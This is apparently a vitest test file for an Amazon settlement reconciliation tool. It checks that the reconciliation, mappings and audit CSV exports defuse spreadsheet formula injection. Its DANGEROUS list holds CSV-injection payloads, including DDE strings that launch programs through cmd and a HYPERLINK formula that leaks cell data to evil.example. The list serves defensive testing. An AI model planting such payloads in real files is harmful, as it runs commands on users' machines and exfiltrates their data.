// Generated settlement files (test/support/settlement-files.ts) on the V2 sample's header, from
// amazon-settlement-parser by xieyi138-star (CC BY 4.0), read in place from ../shared/reference.
import { afterEach, describe, expect, it } from 'vitest';
import type { ReviewItemView } from '../../core/api/calls/review';
import { parseCsv } from '../../core/mapping/mapping-csv';
import { BC, SAMPLE_ACCOUNTS, setup, v2File } from '../review/review-fixtures';

/**
 * Text that a spreadsheet runs as a formula when a CSV cell starts with it (OWASP "CSV Injection"), as it can
 * arrive in a settlement file (marketplace name, amount description), a person's reason, a mapping rule or an
 * external system's answer stored in the audit log.
 */
const DANGEROUS = [
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!A0",
  '+SUM(1,2)',
  '@SUM(A1:A2)',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '-1',
  '-0.5+1',
  '\t=1+1',
  '\r=1+1',
];
/** A variance needs a reason of at least three words; the dangerous part still leads the cell. */
const varianceReason = (d: string) => `${d} rounding on Amazon's side`;
/** What fits in a tab-separated settlement field. */
const IN_A_FILE = DANGEROUS.filter((d) => !/[\t\r\n]/.test(d));

const TRIGGER = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

const cleanups: (() => void)[] = [];
afterEach(() => cleanups.splice(0).forEach((c) => c()));

/** Every cell of a CSV, with the column it is in. */
function cellsOf(csv: string): { column: string; value: string }[] {
  const [head, ...rows] = parseCsv(csv);
  return rows.flatMap((r) => r.cells.map((value, i) => ({ column: head!.cells[i]!, value })));
}

/**
 * No cell would be evaluated, except numbers our code wrote; each dangerous string is there, as text
 * (reasons and mapping rules are stored trimmed, so a leading tab reaches the CSV as the formula after it).
 */
function expectDefused(csv: string, expected: readonly string[], trimmed = false): void {
  const cells = cellsOf(csv);
  const live = cells.filter((c) => TRIGGER.test(c.value) && !NUMBER.test(c.value));
  expect(live, 'cells a spreadsheet would evaluate').toEqual([]);
  for (const d of expected) expect(cells.map((c) => c.value), JSON.stringify(d)).toContain(`'${trimmed ? d.trim() : d}`);
}

describe('CSV exports defuse formulas from files, people and other systems', () => {
  it('the reconciliation CSV of a settlement and of a period, with its amounts still numbers', async () => {
    const t = await setup();
    cleanups.push(t.ws.remove);
    const open = async (settlementId: string) =>
      (await t.value<{ items: ReviewItemView[] }>('review.list', { state: 'open', settlementId })).items;
    const settlementIds: string[] = [];
    for (const [n, d] of IN_A_FILE.entries()) {
      const id = String(910_000 + n);
      settlementIds.push(id);
      // Declared 80.00 for lines of 100.00 and -20.00 (an unknown fee, excluded below): a variance to accept.
      const file = v2File(id, '70.00', [
        { t: 'Order', a: 'ItemPrice', d: 'Principal', amount: '100.00' },
        { t: 'Order', a: 'ItemFees', d, amount: '-20.00' },
      ]).replaceAll('\tamazon.com\t', `\t${d}\t`);
      await t.importText(`${d}.tsv`, file);
    }
    for (const item of await t.value<{ items: ReviewItemView[] }>('review.list', { state: 'open' }).then((r) => r.items)) {
      const target = SAMPLE_ACCOUNTS[String(item.facts.amountDescription ?? item.facts.role ?? '')];
      if (item.severity === 'blocking' && target && item.actions.includes('map')) await t.value('review.resolve', { itemId: item.id, resolution: { action: 'map', target } });
    }
    // The differences here (20.00) are above the default limit one person may accept (1.00).
    await t.value('review.setPolicy', { varianceLimit: '100.00' });
    for (const [n, id] of settlementIds.entries()) {
      const reason = DANGEROUS[n % DANGEROUS.length]!;
      const unknown = (await open(id)).find((i) => i.kind === 'unknown-type')!;
      await t.value('review.resolve', { itemId: unknown.id, resolution: { action: 'exclude', reason } });
      const difference = (await open(id)).find((i) => i.kind === 'difference')!;
      await t.value('review.resolve', { itemId: difference.id, resolution: { action: 'acceptVariance', account: '8490', reason: varianceReason(DANGEROUS[(n + 7) % DANGEROUS.length]!) } });
    }

    const exported = async (input: Record<string, unknown>) =>
      Buffer.from((await t.value<{ contentBase64: string }>('reports.export', { ...input, format: 'csv' })).contentBase64, 'base64').toString('utf8');
    const all: string[] = [];
    for (const [n, id] of settlementIds.entries()) {
      const csv = await exported({ scope: 'settlement', id });
      all.push(csv);
      expectDefused(csv, [IN_A_FILE[n]!, DANGEROUS[n % DANGEROUS.length]!, varianceReason(DANGEROUS[(n + 7) % DANGEROUS.length]!)], true);
      const cells = cellsOf(csv);
      // The amounts our code wrote stay numbers a spreadsheet sums, negative ones included.
      expect(cells.filter((c) => c.column === 'amount' && c.value !== '').every((c) => NUMBER.test(c.value))).toBe(true);
      expect(cells.filter((c) => c.column === 'amount').map((c) => c.value)).toContain('-20.00');
    }
    expect(all.join('')).not.toMatch(/(^|,)-2\+3\+cmd/m);
    const period = await exported({ scope: 'period', id: '2026-06' });
    expectDefused(period, IN_A_FILE);
  });

  it('the mappings CSV', async () => {
    const t = await setup();
    cleanups.push(t.ws.remove);
    for (const d of DANGEROUS) {
      await t.value('mappings.save', { connectionId: BC, entry: { kind: 'fee', transactionType: 'Order', amountType: 'ItemFees', amountDescription: d, subject: '', target: '8410', dimensions: {} } });
      await t.value('mappings.save', { connectionId: BC, entry: { kind: 'marketplace', transactionType: '', amountType: '', amountDescription: '', subject: d, target: 'C-AMZ-US', dimensions: {} } });
    }
    const { csv, rows } = await t.value<{ csv: string; rows: number }>('mappings.exportCsv', { connectionId: BC });
    expect(rows).toBe(2 * new Set(DANGEROUS.map((d) => d.trim())).size);
    expectDefused(csv, DANGEROUS, true);
  });

  it('the audit CSV, whatever an external system answered', async () => {
    const t = await setup({ connection: false });
    cleanups.push(t.ws.remove);
    for (const d of DANGEROUS) {
      t.ws.audit.record({ kind: 'external_call', system: 'amazon', operation: d, actor: d, subjectType: d, subjectId: d, status: d, correlationId: d, request: d, response: d });
    }
    const { csv } = await t.value<{ csv: string }>('audit.exportCsv', { system: 'amazon' });
    expectDefused(csv, DANGEROUS);
    // Ids and durations our code counted stay numbers.
    expect(cellsOf(csv).filter((c) => c.column === 'id').every((c) => NUMBER.test(c.value))).toBe(true);
  });
});
